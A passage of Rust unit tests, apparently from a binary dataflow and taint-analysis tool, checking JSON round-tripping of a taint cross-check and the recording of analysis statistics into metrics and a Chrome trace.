                    sink_va: 0x40_2000,
                },
            }],
        };
        let v = check.to_json_value();
        let back = TaintCrossCheck::from_json_value(&v).unwrap();
        assert_eq!(back, check);
    }

    #[test]
    fn stats_record_as_analyze_metrics() {
        let stats = DataflowStats {
            worklist_iterations: 10,
            widenings: 2,
            indirects_resolved: 3,
            indirects_unresolved: 1,
            summary_cache_hits: 4,
            functions_analyzed: 5,
        };
        let mut reg = MetricsRegistry::new();
        stats.record_into(&mut reg);
        let snap = reg.snapshot();
        assert_eq!(snap.counter("analyze.worklist.iterations"), Some(10));
        assert_eq!(snap.counter("analyze.indirect.resolved"), Some(3));
        assert_eq!(snap.counter("analyze.summary.cache_hits"), Some(4));
        let back = DataflowStats::from_json_value(&stats.to_json_value()).unwrap();
        assert_eq!(back, stats);

        // The same counters land in the Chrome trace as an instant event.
        let rec = RecorderHandle::new(16);
        stats.trace_into(&rec, 123, "app.exe");
        let chrome = rec.export_chrome();
        assert!(chrome.contains("\"analysis\""), "{chrome}");
        assert!(chrome.contains("analyze.widenings"), "{chrome}");
    }
}
